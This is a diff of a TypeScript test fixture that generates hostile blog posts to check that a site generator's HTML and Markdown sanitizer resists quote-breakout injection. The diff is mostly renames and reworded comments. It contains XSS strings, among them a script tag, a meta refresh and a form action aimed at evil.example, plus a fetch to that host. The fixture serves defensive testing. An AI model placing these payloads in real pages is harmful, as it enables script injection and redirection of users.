@@ -1,16 +1,16 @@
 import { hashOf } from '../../lib/util/hash';
-import { stamp } from './images';
+import { blackSquare } from './images';
 import { post } from './publication';
 
 /** A name with every character that is special in HTML, CSS, URLs or Markdown, and allowed in a name. */
 export const hardName = 'Bob\'s "best" & <only> `photo` (1), 100%';
 
-/** A file of the publication that would run if it were ever loaded as a script. */
+/** The content of an attachment that would run if a page loaded it as a script. */
 const evil = 'window.owned = true; fetch("https://evil.example/");';
 const evilFile = 'evil.txt';
 const evilPath = `/media/${hashOf(evil).slice(0, 10)}/${evilFile}`;
 
-/** Texts that look like the beginning of a tag, or like the marker of a reference. */
+/** Texts that look like the start of a tag, or like the marker of a reference. */
 export const openings = [
   '<img ',
   '<img src="asset:square.png" ',
@@ -25,7 +25,7 @@ export const openings = [
 ];
 
 /** Texts that would become markup if they escaped from their quotes. */
-export const closings = [
+export const breakouts = [
   `><script src=${evilPath}></script>`,
   '><meta http-equiv=refresh content=0;url=https://evil.example/>',
   '><form action=https://evil.example/><button>',
@@ -42,14 +42,14 @@ export const closings = [
 const inAttribute = (text: string) =>
   text.replace(/[&<>"'`]/g, (sign) => `&#${sign.charCodeAt(0)};`).replace(/\n/g, ' ');
 
-/** Escapes a text for Markdown, a label or a title. */
+/** Escapes a text for a label or a title in Markdown. */
 const inMarkdown = (text: string) => text.replace(/[\\[\]()<>"'`*_&:{}!#|~]/g, '\\$&');
 
 /**
  * Every attribute that the sanitizer allows, and everything that becomes an attribute later, with a
- * text in it. Sizes, spans and starts are not among them: `check` refuses what is not a number.
+ * text in it. Sizes, spans and starts are left out, because `check` refuses anything but numbers there.
  */
-export const carriers: Record<string, (text: string) => string> = {
+export const attributes: Record<string, (text: string) => string> = {
   ...Object.fromEntries(
     [
       ...['div title', 'p id', 'p lang', 'p dir', 'div align', 'blockquote cite', 'q cite', 'del cite'],
@@ -83,46 +83,50 @@ export const carriers: Record<string, (text: string) => string> = {
   formula: (text) => `$$\\text{${text.replace(/[\\{}$%&#_^~]/g, '')}}$$`,
 };
 
-/** Each kind of reference, called by a text. */
+/** Each kind of reference, with a text as its label. */
 export const references: Record<string, (text: string) => string> = {
   link: (text) => `[${inMarkdown(text)}](other.md)`,
   'link with a fragment': (text) => `[${inMarkdown(text)}](other.md#part)`,
   image: (text) => `![${inMarkdown(text)}](square.png)`,
   'image with a title': (text) => `![${inMarkdown(text)}](square.png "${inMarkdown(text)}")`,
-  'image in a line': (text) => `A line ![${inMarkdown(text)}](square.png) goes on.`,
+  'inline image': (text) => `A line ![${inMarkdown(text)}](square.png) goes on.`,
   'image in a link': (text) => `[![${inMarkdown(text)}](square.png)](other.md)`,
   'image in raw HTML': (text) => `<img src="square.png" alt="${inAttribute(text)}">`,
   'raw image in a raw link': (text) =>
     `<a href="other.md"><p><img src="square.png" alt="${inAttribute(text)}"></p></a>`,
   attachment: (text) => `[${inMarkdown(text)}](${evilFile})`,
   clip: (text) => `::video[${inMarkdown(text)}]{src="clip.mp4" poster="square.png"}`,
-  'video elsewhere': (text) => `::video[${inMarkdown(text)}]{src="https://vimeo.com/1" poster="square.png"}`,
+  'video on another host': (text) =>
+    `::video[${inMarkdown(text)}]{src="https://vimeo.com/1" poster="square.png"}`,
   audio: (text) => `<audio src="clip.mp4" aria-label="${inAttribute(text)}"></audio>`,
   'video element': (text) =>
     `<video src="clip.mp4" poster="square.png" title="${inAttribute(text)}"></video>`,
 };
 
-/** Texts before, after and around. */
-export const orders: ((carrier: string, reference: string) => string)[] = [
-  (carrier, reference) => `${carrier}\n\n${reference}`,
-  (carrier, reference) => `${reference}\n\n${carrier}`,
-  (carrier, reference) => `${carrier}\n\n${reference}\n\n${carrier}`,
-  (carrier, reference) => `<div>\n\n${carrier}\n\n<section>\n\n${reference}\n\n</section></div>`,
+/** An attribute before, after or around a reference. */
+export const arrangements: ((attribute: string, reference: string) => string)[] = [
+  (attribute, reference) => `${attribute}\n\n${reference}`,
+  (attribute, reference) => `${reference}\n\n${attribute}`,
+  (attribute, reference) => `${attribute}\n\n${reference}\n\n${attribute}`,
+  (attribute, reference) => `<div>\n\n${attribute}\n\n<section>\n\n${reference}\n\n</section></div>`,
 ];
 
-/** Every attribute before, after or around every kind of reference. */
+/**
+ * Every attribute before, after or around every kind of reference. If a quote of one were taken for the
+ * end of the other, text and markup would change places.
+ */
 export function inversions(): string[] {
-  return Object.values(carriers).flatMap((carrier, row) =>
+  return Object.values(attributes).flatMap((attribute, row) =>
     Object.values(references).map((reference, column) => {
       const at = row * 7 + column;
-      const order = orders[at % orders.length] ?? orders[0];
-      const text = carrier(openings[at % openings.length] ?? '');
-      return order?.(text, reference(closings[(at * 3 + row) % closings.length] ?? '')) ?? '';
+      const arrange = arrangements[at % arrangements.length] ?? arrangements[0];
+      const text = attribute(openings[at % openings.length] ?? '');
+      return arrange?.(text, reference(breakouts[(at * 3 + row) % breakouts.length] ?? '')) ?? '';
     }),
   );
 }
 
-/** Few enough for a page that opens quickly. */
+/** Few enough that the page opens quickly. */
 const perPost = 75;
 
 const bracketed = hardName.replace(/[<>]/g, '\\$&');
@@ -132,20 +136,20 @@ const names = [
   `[A post](<../it's \`here\`.md>)`,
 ].join('\n\n');
 
-/** A publication of texts that try to escape from quotes, with its own author and topic. */
+/** Posts with texts that try to escape from their quotes, with an author and a topic of their own. */
 export async function hostileFiles(): Promise<Record<string, string | Uint8Array>> {
   const fields = { authors: '[mallory]', tags: '[inversions]', date: '2020-01-01', related: 'false' };
-  const all = [
+  const texts = [
     `<div title="<img ">hello</div>\n\n![><script src=${evilPath}></script>](square.png)`,
     ...inversions(),
   ];
   const posts: Record<string, string> = {};
-  for (let at = 0; at * perPost < all.length; at++)
+  for (let at = 0; at * perPost < texts.length; at++)
     posts[`posts/inversions-${at}.md`] = post(
       { ...fields, title: `Inversions ${at}` },
-      all.slice(at * perPost, (at + 1) * perPost).join('\n\n'),
+      texts.slice(at * perPost, (at + 1) * perPost).join('\n\n'),
     );
-  const square = await stamp(20);
+  const square = await blackSquare(20);
   return {
     ...posts,
     'authors/mallory.md': '---\nname: Mallory\n---\n\nWrites <b title="<img ">this</b>.\n',
